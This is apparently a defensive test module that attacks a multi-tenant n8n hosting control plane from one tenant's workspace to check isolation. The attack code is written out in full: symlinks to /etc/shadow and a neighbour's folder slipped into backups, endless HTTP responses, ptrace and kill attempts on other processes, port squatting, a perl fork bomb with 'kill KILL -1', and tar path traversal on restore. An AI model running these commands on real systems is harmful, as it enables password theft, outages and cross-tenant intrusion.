/** Misleading the control plane: endless answers, links in the files it copies, another workspace's port, signals to its processes. */
import { existsSync } from "node:fs";
import { once } from "node:events";
import { request, type IncomingMessage } from "node:http";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { Readable } from "node:stream";
import { setTimeout as delay } from "node:timers/promises";
import { gunzipSync } from "node:zlib";
import { pack } from "tar-stream";
import { backupOverview, type Backup } from "#contract/workspaces/backup.ts";
import { words, type Attack } from "../attack.ts";
import { eventually } from "../scene/eventually.ts";
import { tasksOf } from "./exhaust.ts";
import { isThere, n8nOf, residentMb } from "../scene/host-view.ts";
import { placeOf, type Scene } from "../scene/scene.ts";

/** More than it needs for its own work, far less than an endless answer would bring. */
const mostGrowthMb = 100;

/** The driver's limit on a workspace's processes and threads, plus a hundred short-lived ones that are visible from outside. */
const mostTasks = 512 + 100;

const pidsOf = ({ slipway, neighbour }: Scene): number[] => [n8nOf(neighbour.uid)?.pid ?? 0, slipway.pid(), slipway.postmasterPid() ?? 0];

async function makeBackup({ slipway, attacker }: Scene): Promise<Backup> {
  const { token } = attacker.customer;
  const made = await slipway.call("POST", "/api/export/backups", { token });
  if (made.status !== 202) throw new Error(`no backup: ${made.text}`);
  const { id } = made.json<Backup>();
  return eventually("the backup", async () => {
    const { backups } = backupOverview.parse((await slipway.call("GET", "/api/export", { token })).json());
    return backups.find((backup) => backup.id === id && ["successful", "failed"].includes(backup.state));
  });
}

async function download({ slipway, attacker }: Scene, id: string): Promise<string> {
  const { token, password } = attacker.customer;
  const link = await slipway.call("POST", `/api/export/backups/${id}/download`, { token, body: { password } });
  const { pathname, host } = new URL(link.json<{ url: string }>().url, slipway.url);
  const asked = request({
    host: "127.0.0.1",
    port: slipway.port,
    path: pathname,
    headers: { host, cookie: `token=${token}` },
    agent: false,
  }).end();
  const [response] = (await once(asked, "response")) as [IncomingMessage];
  if (response.statusCode !== 200) throw new Error(`the backup is not given out: ${response.statusCode}`);
  return gunzipSync(await buffer(response)).toString("latin1");
}

export const mislead: readonly Attack[] = [
  {
    title: "makes the control plane back up the targets of links in its folder",
    means: "Execute Command, a backup that it asks for",
    async run(scene) {
      const marker = join(scene.neighbour.folder, "marker.txt");
      await scene.shell(
        `cd .n8n && mkdir -p storage && cd storage && ln -sfn '${marker}' file; ln -sfn '${scene.neighbour.folder}' folder; ln -sfn /etc/shadow shadow; ln -sfn / root; mkfifo pipe; cd .. && rm -rf ssh && ln -sfn /etc ssh`,
      );
      const backup = await makeBackup(scene);
      const text = backup.state === "successful" ? await download(scene, backup.id) : "";
      await scene.shell("rm -rf .n8n/storage/file .n8n/storage/folder .n8n/storage/shadow .n8n/storage/root .n8n/storage/pipe .n8n/ssh");
      const harms = [...scene.secrets].filter(([, value]) => text.includes(value)).map(([what]) => `the backup holds ${what}`);
      return {
        stoppedBy: backup.state === "successful" ? "links are not followed" : (backup.reason ?? "the backup failed"),
        harms: [...harms, ...(/^root:[^:]*:\d/m.test(text) ? ["the backup holds the host's passwords"] : [])],
      };
    },
  },
  {
    title: "sends endless answers to the control plane",
    means: "code in n8n",
    async run(scene) {
      const { slipway, attacker } = scene;
      const before = residentMb(slipway.pid());
      await scene.script(`const { Server } = require('node:http'); const emit = globalThis.attackEmit ??= Server.prototype.emit; const block = Buffer.alloc(1024 * 1024, ' ');
        Server.prototype.emit = function (name, request, response) {
          if (name !== 'request' || !/^\\/(_slipway|healthz)/.test(request.url)) return emit.apply(this, arguments);
          response.writeHead(200, { 'content-type': 'application/json' });
          const pour = () => { while (!response.destroyed && response.write(block)); }; response.on('drain', pour); pour(); return true;
        };
        return "pouring";`);
      let most = 0;
      for (const path of ["/api/account/members", "/api/instance/used-limits", "/api/export", "/api/instance/monitoring"]) {
        await slipway.call("GET", path, { token: attacker.customer.token });
        await delay(600);
        most = Math.max(most, residentMb(slipway.pid()) - before);
      }
      await scene.script("require('node:http').Server.prototype.emit = globalThis.attackEmit; return 'as before'");
      return {
        stoppedBy: `answers are bounded; the program grew by ${Math.round(most)} MB`,
        harms: [
          ...(most > mostGrowthMb ? [`the program grew by ${Math.round(most)} MB`] : []),
          ...(isThere(slipway.pid()) ? [] : ["the program is gone"]),
        ],
      };
    },
  },
  {
    title: "kills and traces processes of its neighbour and of the program",
    means: "Execute Command",
    async run(scene) {
      const pids = pidsOf(scene);
      const { text } = await scene.shell(
        pids
          .flatMap((pid) => [
            `perl -e 'print syscall(${process.arch === "arm64" ? 117 : 101}, 16, ${pid}, 0, 0) == 0 ? "TRACED ${pid}\\n" : "$!\\n"' 2>&1`,
            `perl -e 'print open(M, "+<", "/proc/${pid}/mem") ? "OPENED ${pid}\\n" : "$!\\n"' 2>&1`,
            ...["STOP", "USR1", "TERM", "KILL"].map((name) => `kill -${name} ${pid} 2>&1`),
            `kill -KILL -- -${pid} 2>&1`,
          ])
          .join("\n"),
      );
      await delay(300);
      const harms = pids.filter((pid) => pid === 0 || !isThere(pid)).map((pid) => `process ${pid} is gone`);
      return {
        stoppedBy: words(
          text
            .split("\n")
            .filter((line) => !/TRACED|OPENED/.test(line))
            .map((line) => line.split(": ").at(-1) ?? ""),
        ),
        harms: [...harms, ...[...text.matchAll(/(?:TRACED|OPENED) \d+/g)].map(String)],
      };
    },
  },
  {
    title: "listens where its neighbour did, to receive its neighbour's visitors",
    means: "code in n8n",
    async run(scene) {
      const { neighbour, driver } = scene;
      const { address } = await driver.observe(neighbour.workspaceId);
      const port = Number(address?.split(":").at(-1));
      await scene.script(squatScript, { port, host: address?.replace(/:\d+$/, "") });
      process.kill(n8nOf(neighbour.uid)!.pid, "SIGKILL");
      const heard: string[] = [];
      const answered = await eventually(
        "the neighbour after its death",
        async () => {
          const { status, text } = await scene.callNeighbour();
          heard.push(text);
          return status === 200 && !text.includes("squatter") ? true : undefined;
        },
        90_000,
      ).catch(() => false);
      const squatted = Number(
        await scene.script(
          "clearInterval(globalThis.squat.timer); globalThis.squat.servers.forEach((server) => server.close()); return globalThis.squat.visitors",
        ),
      );
      const fooled = heard.filter((text) => text.includes("squatter")).length;
      return {
        stoppedBy: "the neighbour's address is not the attacker's to take",
        harms: [
          ...(fooled > 0 ? [`${fooled} visitors of the neighbour were answered by the attacker`] : []),
          ...(squatted > 0 ? [`the attacker received ${squatted} of its neighbour's connections`] : []),
          ...(answered ? [] : ["the neighbour did not come back"]),
        ],
      };
    },
  },
  {
    title: "starts a fork bomb that uses up the process limit, and then kills everything it can",
    means: "Execute Command",
    async run(scene) {
      const pids = pidsOf(scene);
      // Traps for the restore in the next attack; nothing could set them later.
      await setTraps(scene);
      let isOver = false;
      const ended = scene
        .shell(`${killAllOnceFull} & for n in 1 2 3 4; do perl -e 'while (1) { fork }' & done; wait`)
        .catch(() => undefined)
        .finally(() => (isOver = true));
      let most = 0;
      for (const untilMs = performance.now() + longestBombMs; !isOver && performance.now() < untilMs;) {
        await Promise.race([ended, delay(400)]);
        most = Math.max(most, tasksOf(scene.attacker.uid));
      }
      if (most < 200) throw new Error(`the bomb did not go off: ${most} processes and threads`);
      const { status } = await scene.callNeighbour();
      const harms = pids.filter((pid) => !isThere(pid)).map((pid) => `process ${pid} is gone`);
      const left = tasksOf(scene.attacker.uid);
      return {
        stoppedBy: `at most ${most} processes and threads; only its own ended`,
        harms: [
          ...harms,
          ...(status === 200 ? [] : [`the neighbour answers ${status}`]),
          ...(most > mostTasks ? [`it had ${most} processes and threads`] : []),
          ...(left > 200 ? [`${left} of them are left`] : []),
        ],
      };
    },
  },
  {
    title: "leads a restore out of its folder by links",
    means: "links left in its own folder, then the driver's restore",
    async run(scene) {
      const { slipway, driver, attacker, neighbour } = scene;
      await slipway.signal("SIGINT");
      const archive = pack();
      archive.entry({ name: ".n8n/storage/", type: "directory", mode: 0o755 });
      archive.entry({ name: ".n8n/storage/marker.txt", mode: 0o666 }, "overwritten");
      archive.entry({ name: "out", type: "symlink", linkname: neighbour.folder });
      archive.entry({ name: "out/dropped.txt", mode: 0o666 }, "dropped");
      archive.entry({ name: "../../escaped.txt", mode: 0o666 }, "escaped");
      archive.finalize();
      const end = await driver
        .replaceStorage(placeOf(attacker), [".n8n/storage", "out"], Readable.from(archive, { objectMode: false }))
        .then(
          () => "it was put into its own folder",
          (error: Error) => error.message.slice(0, 80),
        );
      const stored = (await buffer(await driver.readStorage(placeOf(neighbour), ["marker.txt", "dropped.txt"]))).toString("latin1");
      const isAsBefore = stored.includes(scene.secrets.get("the neighbour's file")!) && !/overwritten|dropped/.test(stored);
      const escaped = [join(attacker.folder, "../../escaped.txt"), join(attacker.folder, "../escaped.txt")].filter((file) =>
        existsSync(file),
      );
      return {
        stoppedBy: end,
        harms: [...(isAsBefore ? [] : ["the neighbour's folder is another one"]), ...escaped.map((file) => `${file} was written`)],
      };
    },
  },
];

/**
 * Ends everything a second after there are this many processes, which takes two on a quiet machine. In one process from the start: once the
 * bomb has gone off, none can be added.
 */
const killAllOnceFull = `perl -e 'for (1 .. 150) { select undef, undef, undef, 0.1; opendir my $all, "/proc"; last if (grep { /^[0-9]+$/ } readdir $all) > 250 } select undef, undef, undef, 1; kill "KILL", -1'`;
const longestBombMs = 30_000;

/** Where a restore puts files and what it creates beside them: all of it links to the neighbour. */
const setTraps = (scene: Scene) =>
  scene.shell(
    [
      "rm -rf .n8n/storage .arriving out",
      ...[".n8n/storage", ".arriving", "out"].map((name) => `ln -sfn '${scene.neighbour.folder}' ${name}`),
    ].join("; "),
  );

/** Takes the port at every address as soon as it is free, and answers every request. */
const squatScript = `const http = require('node:http'); const squat = globalThis.squat = { visitors: 0, servers: [], timer: null };
const take = () => { for (const host of [given.host, '127.0.0.1', '0.0.0.0', '::']) { const server = http.createServer((request, response) => { squat.visitors += 1; response.end('squatter'); }); server.once('listening', () => squat.servers.push(server)).on('error', () => undefined).listen({ host, port: given.port, exclusive: true }); } };
squat.timer = setInterval(take, 5); return 'waiting';`;
